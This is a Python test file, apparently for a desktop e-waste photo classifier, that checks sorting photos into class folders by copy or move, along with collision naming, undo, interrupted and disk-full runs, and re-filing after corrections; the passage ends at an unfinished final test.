"""Sorting classified photos into class folders: copy, move, collisions, undo, an interrupted
sort resumed, a full disk, and the refusals, on real files in temporary folders."""

from __future__ import annotations

import csv
import errno
import hashlib
import os
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import NamedTuple

import pytest

import desktop.core.sorting as sorting
from child_signals import deliverable
from desktop.core import file_placing, sort_manifest, sort_undo
from desktop.core.cli import main as classify_main
from desktop.core.engine import Engine
from desktop.core.folder_lock import LOCK_FILE, FolderLock
from desktop.core.results import Prediction
from desktop.core.sort_history import current_places
from desktop.core.sort_manifest import MANIFEST_FILE, UNDONE_MANIFEST_FILE
from desktop.core.sort_records import SortError, SortStopped
from desktop.core.sort_undo import undo_sort
from desktop.core.sorting import ERROR_FOLDER, REVIEW_FOLDER, sort_into
from fixtures_images import write_solid
from sort_faults import disk_full, manifest_fails_after
from tiny_model import AMBIGUOUS_COLOUR, CLASS_NAMES, PROTOTYPE_COLOURS

THRESHOLD = 0.7


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def photo_folder(root: Path) -> Path:
    """One photo per class colour, one ambiguous photo, one broken file."""
    root.mkdir(parents=True)
    for name, colour in PROTOTYPE_COLOURS.items():
        write_solid(root / f"{name.lower().replace(' ', '-')}.png", colour)
    write_solid(root / "unsure.png", AMBIGUOUS_COLOUR)
    (root / "broken.jpg").write_bytes(b"\xff\xd8 not a jpeg")
    return root


def classified(engine: Engine, folder: Path) -> list[Prediction]:
    files = sorted(p for p in folder.iterdir() if p.is_file())
    return [row for batch in engine.classify(files) for row in batch]


def files_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file() and p.name != MANIFEST_FILE)


def manifest_rows(dest: Path, name: str = MANIFEST_FILE) -> list[dict[str, str]]:
    with open(dest / name, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def engine(tiny_model_path: Path) -> Engine:
    return Engine(tiny_model_path, threads=1)


def test_copy_files_each_photo_by_status_and_keeps_the_sources(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest = tmp_path / "sorted"

    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)

    assert {p.name: digest(p) for p in photos.iterdir()} == before  # sources untouched
    assert len(report.filed) == len(before) and not report.failed
    assert (dest / "Battery" / "battery.png").is_file()
    assert (dest / "Washing Machine" / "washing-machine.png").is_file()
    assert [p.name for p in (dest / REVIEW_FOLDER).iterdir()] == ["unsure.png"]
    assert [p.name for p in (dest / ERROR_FOLDER).iterdir()] == ["broken.jpg"]
    rows = manifest_rows(dest)
    assert len(rows) == len(before)
    for row in rows:
        assert digest(Path(row["destination"])) == row["sha256"] == digest(Path(row["source"]))
        assert row["action"] == "copy"
    assert not list(dest.rglob("*.tmp"))


def test_names_already_taken_get_a_number_and_nothing_is_overwritten(engine, tmp_path) -> None:
    first, second = tmp_path / "a", tmp_path / "b"
    first.mkdir()
    second.mkdir()
    write_solid(first / "item.png", PROTOTYPE_COLOURS["Battery"])
    write_solid(second / "item.png", PROTOTYPE_COLOURS["Battery"], size=(40, 40))  # differs
    dest = tmp_path / "sorted"
    (dest / "Battery").mkdir(parents=True)
    (dest / "Battery" / "item.png").write_bytes(b"a worker's own file")

    rows = classified(engine, first) + classified(engine, second)
    sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD)

    assert (dest / "Battery" / "item.png").read_bytes() == b"a worker's own file"
    assert digest(dest / "Battery" / "item (2).png") == digest(first / "item.png")
    assert digest(dest / "Battery" / "item (3).png") == digest(second / "item.png")


def no_hard_links(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make the destination behave like another file system, or one without hard links."""

    def refuse(*_args, **_kwargs):
        raise OSError(errno.EXDEV, "Invalid cross-device link")

    monkeypatch.setattr(file_placing.os, "link", refuse)


@pytest.mark.parametrize("same_file_system", [True, False])
def test_move_then_undo_puts_every_photo_back(
    engine, tmp_path, monkeypatch, same_file_system
) -> None:
    if not same_file_system:
        no_hard_links(monkeypatch)
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest = tmp_path / "sorted"

    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert list(photos.iterdir()) == []
    assert sorted(digest(p) for p in files_under(dest)) == sorted(before.values())

    report = undo_sort(dest)
    assert not report.failed and report.copies_deleted == 0 and report.undo_note() == ""
    assert {p.name: digest(p) for p in photos.iterdir()} == before
    assert list(dest.iterdir()) == [dest / UNDONE_MANIFEST_FILE]  # no empty class folders


def test_undo_of_a_copy_deletes_the_copies_but_not_a_changed_one(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    edited = dest / "Mouse" / "mouse.png"
    with edited.open("r+b") as handle:  # edited in place, as an image editor may do
        handle.write(b"edited by someone since")

    # A copy is a copy, not a second name for the same file: the original is unchanged.
    assert {p.name: digest(p) for p in photos.iterdir()} == before

    report = undo_sort(dest)

    assert [Path(d).name for d, _ in report.failed] == ["mouse.png"]
    assert len(report.filed) == report.copies_deleted == 11
    assert report.undo_note() == "; all copies, deleted: the originals never moved"
    # The class folders it emptied go; the one holding the edited copy stays, and so does
    # the manifest row of the copy not put back (a second undo retries it).
    left = [edited.parent, dest / MANIFEST_FILE, dest / UNDONE_MANIFEST_FILE]
    assert sorted(dest.iterdir()) == left
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_undo_of_a_copy_whose_original_is_gone_puts_the_copy_back(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    before = digest(photos / "mouse.png")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    (photos / "mouse.png").unlink()  # deleted by hand after the sort: the copy is the last one

    report = undo_sort(dest)

    assert not report.failed and len(report.filed) == 12 and report.copies_deleted == 11
    assert report.undo_note() == "; 11 of them copies, deleted: their originals never moved"
    assert digest(photos / "mouse.png") == before
    assert files_under(dest) == [dest / UNDONE_MANIFEST_FILE]
    assert len(list(photos.iterdir())) == 12


def test_undo_leaves_a_photo_that_was_filed_where_it_sat_and_says_nothing_of_copies(
    engine, tmp_path
) -> None:
    # `ewaste-classify DEST/Mouse --sort-into DEST`: a photo already in its class folder.
    dest = tmp_path / "sorted"
    (dest / "Mouse").mkdir(parents=True)
    mine = write_solid(dest / "Mouse" / "mine.png", PROTOTYPE_COLOURS["Mouse"])
    before = digest(mine)
    sort_into(classified(engine, mine.parent), dest, list(CLASS_NAMES), THRESHOLD)

    report = undo_sort(dest)

    assert len(report.filed) == 1 and report.copies_deleted == 0 and report.undo_note() == ""
    assert digest(mine) == before  # its only copy stays, and so does its folder


def test_a_reused_name_is_a_new_photo_for_the_sort_and_for_the_undo(engine, tmp_path) -> None:
    # A camera whose counter reset writes a new photo under a name already sorted.
    camera = tmp_path / "camera"
    camera.mkdir()
    dest = tmp_path / "sorted"
    first = write_solid(camera / "IMG_0001.png", PROTOTYPE_COLOURS["Mouse"])
    first_digest = digest(first)
    sort_into(classified(engine, camera), dest, list(CLASS_NAMES), THRESHOLD)
    first.unlink()
    second = write_solid(camera / "IMG_0001.png", PROTOTYPE_COLOURS["Battery"])
    second_digest = digest(second)

    report = sort_into(classified(engine, camera), dest, list(CLASS_NAMES), THRESHOLD)
    assert not report.skipped and len(report.filed) == 1  # filed, not "already there"
    assert digest(dest / "Battery" / "IMG_0001.png") == second_digest

    # Undo: the new photo's copy goes; the old photo's copy, now its only one, comes back.
    undone = undo_sort(dest)
    assert not undone.failed and len(undone.filed) == 2  # two photos, one name
    old_photo = str(camera / "IMG_0001 (2).png")
    assert undone.renamed == [(str(camera / "IMG_0001.png"), old_photo)]
    assert sorted(entry.source for entry in undone.filed) == sorted([str(second), old_photo])
    assert undone.undo_note().endswith("; 1 as IMG_0001 (2).png, its name being taken")
    assert digest(camera / "IMG_0001.png") == second_digest
    assert digest(camera / "IMG_0001 (2).png") == first_digest
    assert files_under(dest) == [dest / UNDONE_MANIFEST_FILE]


def test_a_reused_name_moved_into_two_folders_keeps_both_photos_at_the_next_sort(
    engine, tmp_path
) -> None:
    # A camera's counter reset: card/IMG_1.png is moved into Battery, then a new photo
    # under that name into PCB. The manifest's two rows share a source but are two photos:
    # the leftover sweep at the start of any later sort must not take the older for a
    # re-file's stale copy and delete it (its source is gone: it is the only copy).
    card, dest, names = tmp_path / "card", tmp_path / "sorted", list(CLASS_NAMES)
    card.mkdir()
    first_digest = digest(write_solid(card / "IMG_1.png", PROTOTYPE_COLOURS["Battery"]))
    sort_into(classified(engine, card), dest, names, THRESHOLD, move=True)
    second_digest = digest(write_solid(card / "IMG_1.png", PROTOTYPE_COLOURS["PCB"]))
    sort_into(classified(engine, card), dest, names, THRESHOLD, move=True)
    assert list(card.iterdir()) == []

    sort_into(classified(engine, card), dest, names, THRESHOLD, move=True)  # the next card

    assert digest(dest / "Battery" / "IMG_1.png") == first_digest
    assert digest(dest / "PCB" / "IMG_1.png") == second_digest


def test_undo_works_from_any_folder_and_reads_older_relative_manifests(
    engine, tmp_path, monkeypatch
) -> None:
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    monkeypatch.chdir(tmp_path)
    sort_into(classified(engine, photos), "sorted", list(CLASS_NAMES), THRESHOLD, move=True)
    dest = tmp_path / "sorted"
    assert all(Path(row["destination"]).is_absolute() for row in manifest_rows(dest))
    # A manifest an earlier version wrote holds destinations relative to where it ran.
    with open(dest / MANIFEST_FILE, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        row[1] = str(Path(row[1]).relative_to(tmp_path))
    with open(dest / MANIFEST_FILE, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)

    report = undo_sort(dest)

    assert not report.failed and len(report.filed) == 12
    assert {p.name: digest(p) for p in photos.iterdir()} == before
    assert not (dest / MANIFEST_FILE).exists()


def test_a_manifest_resolves_each_class_folder_once_not_each_row(
    engine, tmp_path, monkeypatch
) -> None:
    # A sorting watch reads the manifest at every batch: a realpath per row made each batch
    # of a month's 30,000 rows take seconds. The rows still name their files through links.
    photos = tmp_path / "photos"
    photos.mkdir()
    for index in range(20):  # a day's mice and printers
        name = ("Mouse", "Printer")[index % 2]
        write_solid(photos / f"IMG_{index:04d}.png", PROTOTYPE_COLOURS[name])
    real_dest = tmp_path / "real-sorted"
    real_dest.mkdir()
    dest = tmp_path / "sorted"
    dest.symlink_to(real_dest)  # a share reached through a link
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    folders = {Path(row["destination"]).parent for row in manifest_rows(dest)}
    assert len(folders) == 2
    real_realpath, resolved = os.path.realpath, []
    monkeypatch.setattr(os.path, "realpath", lambda p: resolved.append(p) or real_realpath(p))

    entries = sort_manifest.manifest_entries(dest)

    assert len(entries) == 20 and len(resolved) <= 1 + len(folders)  # DEST, then each folder
    assert {e.destination for e in entries} == {row["destination"] for row in manifest_rows(dest)}
    assert all(Path(e.destination).parent.parent == real_dest for e in entries)


def test_an_undo_that_undid_nothing_writes_no_undone_manifest(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    for copy in files_under(dest):
        copy.write_bytes(b"changed")

    report = undo_sort(dest)

    assert len(report.failed) == 12 and not report.filed
    assert not (dest / UNDONE_MANIFEST_FILE).exists()
    assert len(manifest_rows(dest)) == 12  # kept, so a later undo can retry


def test_an_interrupted_sort_run_again_finishes_without_duplicates(
    engine, tmp_path, monkeypatch
) -> None:
    photos = photo_folder(tmp_path / "photos")
    predictions = classified(engine, photos)
    dest = tmp_path / "sorted"
    real_add = sort_manifest.ManifestWriter.add
    calls = []

    def stop_after_placing_the_third(self, filed):
        calls.append(filed)
        if len(calls) == 3:  # the photo is in place, its manifest row is not written
            raise KeyboardInterrupt
        real_add(self, filed)

    monkeypatch.setattr(sort_manifest.ManifestWriter, "add", stop_after_placing_the_third)
    with pytest.raises(KeyboardInterrupt):
        sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    monkeypatch.undo()

    report = sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)

    assert len(report.skipped) == 2 and len(report.filed) == 10 and not report.failed
    assert len(files_under(dest)) == 12  # each photo once, the third not doubled
    assert list(photos.iterdir()) == []
    assert len(manifest_rows(dest)) == 12


def test_a_full_disk_stops_cleanly_and_a_second_run_finishes(engine, tmp_path, monkeypatch):
    photos = photo_folder(tmp_path / "photos")
    predictions = classified(engine, photos)
    dest = tmp_path / "sorted"
    real_copy, copies = shutil.copyfileobj, []

    def copy_until_full(reader, writer, length=0):
        copies.append(1)
        if len(copies) == 4:
            writer.write(b"half a photo")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_copy(reader, writer, length)

    no_hard_links(monkeypatch)  # a FAT stick or another disk: bytes are copied
    monkeypatch.setattr(file_placing.shutil, "copyfileobj", copy_until_full)
    with pytest.raises(SortError, match="full after 3 photos"):
        sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD)
    assert len(files_under(dest)) == 3 and not list(dest.rglob("*.tmp"))  # nothing half
    assert len(manifest_rows(dest)) == 3
    monkeypatch.undo()

    report = sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD)
    assert len(report.skipped) == 3 and len(files_under(dest)) == 12


def test_a_full_disk_at_the_manifest_row_stops_with_what_was_done(engine, tmp_path, monkeypatch):
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    predictions = classified(engine, photos)
    dest = tmp_path / "sorted"
    rows = []
    real_write = sort_manifest.os.write

    def write_until_full(fd, data):
        if not bytes(data).startswith(str(photos).encode()):
            return real_write(fd, data)  # anything but a manifest row
        if len(rows) == 3:  # a hard link needs no data blocks: the row is what fills it
            real_write(fd, data[: len(data) // 2])
            raise OSError(errno.ENOSPC, "No space left on device")
        rows.append(data)
        return real_write(fd, data)

    monkeypatch.setattr(sort_manifest.os, "write", write_until_full)
    with pytest.raises(SortError, match="full after 3 photos") as stopped:
        sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    monkeypatch.undo()
    assert stopped.value.report is not None and len(stopped.value.report.filed) == 3
    # The half row is cut off again: the next sort's first row starts on a line of its own.
    manifest = (dest / MANIFEST_FILE).read_bytes()
    assert manifest.endswith(b"\r\n") and len(manifest_rows(dest)) == 3

    report = sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert len(report.skipped) == 3 and not report.failed
    assert sorted(digest(p) for p in files_under(dest)) == sorted(before.values())  # once each
    assert list(photos.iterdir()) == []
    # Every row is sound: the undo puts every photo back where it was.
    assert not undo_sort(dest).failed
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_a_source_deleted_since_classification_fails_alone(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    predictions = classified(engine, photos)
    (photos / "mouse.png").unlink()

    report = sort_into(predictions, tmp_path / "sorted", list(CLASS_NAMES), THRESHOLD)

    assert [Path(source).name for source, _ in report.failed] == ["mouse.png"]
    assert len(report.filed) == 11


def test_a_photo_whose_original_cannot_be_deleted_fails_alone_and_undoes(
    engine, tmp_path, monkeypatch
) -> None:
    # A photo held open by a viewer on Windows, or a card locked after the check: the copy
    # is in place, the original stays, and the row says so; the other photos move.
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    predictions = classified(engine, photos)
    dest = tmp_path / "sorted"
    held = photos / "mouse.png"
    real_unlink = Path.unlink

    def unlink(path, missing_ok=False):
        if path == held:
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        real_unlink(path, missing_ok=missing_ok)

    monkeypatch.setattr(Path, "unlink", unlink)
    for _ in range(2):  # the same sort again: the same answer, no second copy
        report = sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
        [(source, reason)] = report.failed
        assert source == str(held)
        assert reason == (
            f"copied to {dest / 'Mouse' / 'mouse.png'}, but the original cannot be deleted "
            "(permission denied)"
        )
    assert [p.name for p in photos.iterdir()] == ["mouse.png"]
    assert sorted(digest(p) for p in files_under(dest)) == sorted(before.values())
    monkeypatch.undo()

    undo_sort(dest)
    assert {p.name: digest(p) for p in photos.iterdir()} == before
    assert [p.name for p in files_under(dest)] == [UNDONE_MANIFEST_FILE]


def test_moving_out_of_a_read_only_folder_is_refused_before_any_work(
    tiny_model_path, tmp_path, monkeypatch, capsys
) -> None:
    photos = photo_folder(tmp_path / "card")
    real_touch = Path.touch

    def touch(path, *args, **kwargs):  # a write-protected card, for root as for anyone
        if path.parent == photos:
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_touch(path, *args, **kwargs)

    monkeypatch.setattr(Path, "touch", touch)
    dest = tmp_path / "sorted"
    command = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest)]
    command += ["--model", str(tiny_model_path)]
    assert classify_main([*command, "--move"]) == 2
    refusal = f"cannot move photos out of {photos}: read-only file system (a write-protected"
    assert refusal in capsys.readouterr().err
    assert not dest.exists() and len(list(photos.iterdir())) == 12
    assert classify_main(command) == 0  # a copy goes ahead
    assert len(files_under(dest)) == 12


def test_a_confirmed_class_outranks_the_prediction(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    predictions = classified(engine, photos)
    unsure = str(photos / "unsure.png")
    sort_into(
        predictions, tmp_path / "s", list(CLASS_NAMES), THRESHOLD, confirmed={unsure: "Battery"}
    )
    assert (tmp_path / "s" / "Battery" / "unsure.png").is_file()
    assert not (tmp_path / "s" / REVIEW_FOLDER).exists()


class SortedOnce(NamedTuple):
    photos: Path
    before: dict[str, str]  # name -> SHA-256 of each photo before any sort
    predictions: list[Prediction]
    dest: Path
    names: list[str]


def sorted_once(engine: Engine, tmp_path: Path, *, move: bool = False) -> SortedOnce:
    """`photo_folder`'s photos classified and sorted into tmp_path/sorted once."""
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    predictions = classified(engine, photos)
    dest, names = tmp_path / "sorted", list(CLASS_NAMES)
    sort_into(predictions, dest, names, THRESHOLD, move=move)
    return SortedOnce(photos, before, predictions, dest, names)


@pytest.mark.parametrize("move", [False, True], ids=["copy", "move"])
def test_a_photo_corrected_after_the_sort_moves_to_its_new_folder_and_undoes(
    engine, tmp_path, move
) -> None:
    photos, before, predictions, dest, names = sorted_once(engine, tmp_path, move=move)
    assert (dest / REVIEW_FOLDER / "unsure.png").is_file()

    # The worker settles the unsure photo and corrects the mouse; the same sort again.
    unsure, mouse = str(photos / "unsure.png"), str(photos / "mouse.png")
    confirmed = {unsure: "Battery", mouse: "Keyboard"}
    report = sort_into(predictions, dest, names, THRESHOLD, move=move, confirmed=confirmed)

    assert sorted(Path(f.destination) for _, f in report.refiled) == [
        dest / "Battery" / "unsure.png",
        dest / "Keyboard" / "mouse.png",
    ]
    assert not report.filed and len(report.skipped) == len(before) - 2
    assert report.earlier_sort_note() == (
        f"; {len(before) - 2} already there from an earlier sort; 2 moved to new folders"
    )
    assert not (dest / REVIEW_FOLDER).exists() or not any((dest / REVIEW_FOLDER).iterdir())
    assert not (dest / "Mouse" / "mouse.png").exists()
    assert digest(dest / "Keyboard" / "mouse.png") == before["mouse.png"]
    assert sorted(digest(p) for p in files_under(dest)) == sorted(before.values())  # no copies
    again = sort_into(predictions, dest, names, THRESHOLD, move=move, confirmed=confirmed)
    assert not again.refiled and len(again.skipped) == len(before)
    # A CSV names the mouse where it was before the sort, or (exported after it) in Mouse/.
    places = current_places(dest)
    now = str(dest / "Keyboard" / "mouse.png")
    assert places[mouse] == now and places[str(dest / "Mouse" / "mouse.png")] == now

    if move:  # meanwhile a camera's counter reset: a new photo takes the mouse's old name
        new_photo = write_solid(photos / "mouse.png", PROTOTYPE_COLOURS["PCB"])
        before = {**before, "mouse (2).png": before["mouse.png"], "mouse.png": digest(new_photo)}
    report = undo_sort(dest)
    assert not report.failed and len(report.filed) == len(before) - move  # each photo once
    assert report.renamed == ([(mouse, str(photos / "mouse (2).png"))] if move else [])
    assert {p.name: digest(p) for p in photos.iterdir()} == before
    assert files_under(dest) == [dest / UNDONE_MANIFEST_FILE]  # every row undone


def test_a_class_cleared_after_the_sort_sends_the_photo_where_the_model_files_it(
    engine, tmp_path
) -> None:
    # A slip of the finger (the mouse set to Printer), sorted, then cleared; and an unsure
    # photo settled, sorted, then cleared: the app sorts again with None for both.
    photos, before, predictions, dest, names = sorted_once(engine, tmp_path, move=True)
    mouse, unsure = str(photos / "mouse.png"), str(photos / "unsure.png")
    slips = {mouse: "Printer", unsure: "Battery"}
    sort_into(predictions, dest, names, THRESHOLD, move=True, confirmed=slips)
    assert (dest / "Printer" / "mouse.png").is_file()
    assert (dest / "Battery" / "unsure.png").is_file()
    # No word on them (another session, another threshold): they stay where they are.
    unsaid = sort_into(predictions, dest, names, 0.2, move=True, confirmed={})
    assert not unsaid.refiled and (dest / "Printer" / "mouse.png").is_file()

    cleared = {mouse: None, unsure: None}
    report = sort_into(predictions, dest, names, THRESHOLD, move=True, confirmed=cleared)
    assert sorted(Path(f.destination) for _, f in report.refiled) == [
        dest / "Mouse" / "mouse.png",
        dest / REVIEW_FOLDER / "unsure.png",
    ]
    assert not (dest / "Printer" / "mouse.png").exists()
    assert [p.name for p in (dest / "Battery").iterdir()] == ["battery.png"]
    assert {e["class"] for e in manifest_rows(dest) if e["source"] == mouse} == {
        "Mouse", "Printer"
    }  # fmt: skip
    assert not undo_sort(dest).failed
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_a_move_into_a_folder_a_copy_sort_filled_finishes_as_a_move(engine, tmp_path) -> None:
    # Copied first, then the worker chooses Move into the same folder: the originals go
    # (each checked against its copy), nothing is filed twice, and the undo puts them back.
    photos, before, predictions, dest, names = sorted_once(engine, tmp_path, move=False)
    copies = sorted(digest(p) for p in files_under(dest))
    report = sort_into(predictions, dest, names, THRESHOLD, move=True)
    assert report.filed_count() == f"{len(before)} photos" and not report.skipped
    assert all(f.action == "move" for f in report.filed)
    assert list(photos.iterdir()) == []
    assert sorted(digest(p) for p in files_under(dest)) == copies  # no second copy
    assert not undo_sort(dest).failed
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_a_copy_that_cannot_be_read_fails_alone_when_a_move_finishes_the_sort(
    engine, tmp_path, monkeypatch
) -> None:
    photos, before, predictions, dest, names = sorted_once(engine, tmp_path, move=False)
    locked = str(dest / "Mouse" / "mouse.png")  # held open by another program, say
    real_digest = sorting.file_sha256

    def reading(path):
        if str(path) == locked:
            raise PermissionError(errno.EACCES, "Permission denied", locked)
        return real_digest(path)

    monkeypatch.setattr(sorting, "file_sha256", reading)
    report = sort_into(predictions, dest, names, THRESHOLD, move=True)
    assert [source for source, _ in report.failed] == [str(photos / "mouse.png")]
    assert len(report.filed) == len(before) - 1
    assert [p.name for p in photos.iterdir()] == ["mouse.png"]


def test_a_move_finished_by_a_later_sort_says_the_photo_moved(engine, tmp_path, monkeypatch):
    # The first move could not delete the mouse (a file in use); the same sort again can:
    # the photo is reported moved then, so the app's row follows it.
    photos = photo_folder(tmp_path / "photos")
    predictions = classified(engine, photos)
    dest, names, mouse = tmp_path / "sorted", list(CLASS_NAMES), photos / "mouse.png"
    real_unlink = Path.unlink

    def in_use(path, missing_ok=False):
        if path == mouse:
            raise PermissionError(errno.EACCES, "in use", str(path))
        return real_unlink(path, missing_ok)

    monkeypatch.setattr(Path, "unlink", in_use)
    first = sort_into(predictions, dest, names, THRESHOLD, move=True)
    assert [source for source, _ in first.failed] == [str(mouse)] and mouse.exists()
    monkeypatch.undo()
    again = sort_into(predictions, dest, names, THRESHOLD, move=True)
    assert [(f.source, f.destination) for f in again.filed] == [
        (str(mouse), str(dest.resolve() / "Mouse" / "mouse.png"))
    ]
    assert not mouse.exists()


def test_a_move_keeps_an_original_whose_sorted_copy_was_changed(engine, tmp_path) -> None:
    # The copy in DEST was edited by hand: it is no stand-in, so the original stays.
    photos, before, predictions, dest, names = sorted_once(engine, tmp_path, move=False)
    edited = dest / "Mouse" / "mouse.png"
    edited.write_bytes(edited.read_bytes() + b"edited")
    report = sort_into(predictions, dest, names, THRESHOLD, move=True)
    assert str(photos / "mouse.png") in report.skipped
    assert digest(photos / "mouse.png") == before["mouse.png"]
    assert {e["action"] for e in manifest_rows(dest) if e["destination"] == str(edited)} == {
        "copy"
    }  # fmt: skip


def test_a_stopped_move_whose_filed_copy_was_replaced_keeps_the_original(
    engine, tmp_path, monkeypatch
) -> None:
    # A move killed after the photo was filed and its row written, before its original
    # went; then an editor saved a new file over the filed one (a new file: the hard link
    # to the original is broken). The next sort must compare it again, not delete the
    # original for a copy that is no longer one.
    card, dest, names = tmp_path / "card", tmp_path / "sorted", list(CLASS_NAMES)
    card.mkdir()
    photo = write_solid(card / "item.png", PROTOTYPE_COLOURS["Battery"])
    before = digest(photo)
    predictions = classified(engine, card)

    def killed(*_args, **_kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(sorting, "_finish_move", killed)
    with pytest.raises(KeyboardInterrupt):
        sort_into(predictions, dest, names, THRESHOLD, move=True)
    monkeypatch.undo()
    filed = dest / "Battery" / "item.png"
    filed.unlink()
    write_solid(filed, PROTOTYPE_COLOURS["Battery"], size=(40, 40))

    report = sort_into(predictions, dest, names, THRESHOLD, move=True)

    assert report.failed == [(str(photo), f"{filed} was changed since it was filed; both kept")]
    assert digest(photo) == before and digest(filed) != before


def test_a_move_whose_new_folder_is_blocked_still_says_the_photo_moved(engine, tmp_path) -> None:
    # Copied, then moved with a class set meanwhile whose folder cannot be made (a file has
    # its name): the original goes all the same, and the report says where the photo is.
    photos, _, predictions, dest, names = sorted_once(engine, tmp_path, move=False)
    shutil.rmtree(dest / "Keyboard")  # (the keyboard's copy goes with it: filed again)
    (dest / "Keyboard").write_text("not a folder")
    mouse = str(photos / "mouse.png")
    report = sort_into(
        predictions, dest, names, THRESHOLD, move=True, confirmed={mouse: "Keyboard"}
    )
    assert not Path(mouse).exists()
    [moved] = [f for f in report.filed if f.source == mouse]
    assert moved.destination == str(dest / "Mouse" / "mouse.png") and moved.action == "move"
    assert mouse in [source for source, _ in report.failed]  # its re-file, said


def test_where_undos_put_photos_back_leaves_out_a_place_two_photos_used(
    engine, tmp_path, monkeypatch
) -> None:
    # Monday's IMG_1.png and Tuesday's (another photo, same name) were each moved to
    # Mouse/IMG_1.png and each sort undone: a CSV row naming that place could be either.
    dest = tmp_path / "sorted"
    for day, colour in (("monday", PROTOTYPE_COLOURS["Mouse"]), ("tuesday", (0, 250, 250))):
        card = tmp_path / day
        card.mkdir()
        write_solid(card / "IMG_1.png", colour)
        write_solid(card / f"{day}.png", PROTOTYPE_COLOURS["Battery"])
        rows = classified(engine, card)
        assert rows[0].top_index == CLASS_NAMES.index("Mouse")
        sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
        assert not undo_sort(dest).failed
    places = current_places(dest)
    assert str(dest / "Mouse" / "IMG_1.png") not in places
    for day in ("monday", "tuesday"):
        assert places[str(dest / "Battery" / f"{day}.png")] == str(tmp_path / day / f"{day}.png")

    # A damaged undone manifest is passed over, not the folder refused; and only the photos
    # asked for are read.
    (dest / "manifest.undone (3).csv").write_bytes(b"\xff\xfe not a manifest")
    read = []
    monkeypatch.setattr(file_placing, "file_sha256", lambda path: read.append(path) or digest(path))
    wanted = str(dest / "Battery" / "monday.png")
    assert current_places(dest, wanted=[wanted]) == {
        wanted: str(tmp_path / "monday" / "monday.png"),
        str(tmp_path / "monday" / "monday.png"): str(tmp_path / "monday" / "monday.png"),
    }
    assert len(read) == 1


def test_a_destination_named_through_a_link_is_the_same_folder(engine, tmp_path) -> None:
    """Two identical photos from two folders, sorted, then corrected and sorted again
    through a link to DEST; and a photo already in DEST: no file is taken for another."""
    first, second = tmp_path / "a", tmp_path / "b"
    for folder in (first, second):
        folder.mkdir()
        write_solid(folder / "same.png", PROTOTYPE_COLOURS["Mouse"])
    rows = classified(engine, first) + classified(engine, second)
    dest, names = tmp_path / "sorted", list(CLASS_NAMES)
    sort_into(rows, dest, names, THRESHOLD, move=True)
    link = tmp_path / "link-to-sorted"
    link.symlink_to(dest, target_is_directory=True)

    unchanged = sort_into(rows, link, names, THRESHOLD, move=True)
    assert not unchanged.refiled and len(unchanged.skipped) == 2
    corrected = {str(first / "same.png"): "Keyboard"}
    report = sort_into(rows, link, names, THRESHOLD, move=True, confirmed=corrected)

    assert [Path(f.destination).name for _, f in report.refiled] == ["same.png"]
    assert [p.name for p in (dest / "Keyboard").iterdir()] == ["same.png"]
    assert [p.name for p in (dest / "Mouse").iterdir()] == ["same (2).png"]
    assert not undo_sort(link).failed
    assert (first / "same.png").is_file() and (second / "same.png").is_file()

    pile = dest / "Battery"
    pile.mkdir()
    photo = write_solid(pile / "battery.png", PROTOTYPE_COLOURS["Battery"])
    sort_into(classified(engine, pile), link, names, THRESHOLD, move=True)
    assert photo.is_file()  # it already sat where it is filed: its only copy stays
    assert not undo_sort(link).failed and photo.is_file()


def test_a_run_without_the_persons_classes_never_moves_a_corrected_photo(engine, tmp_path) -> None:
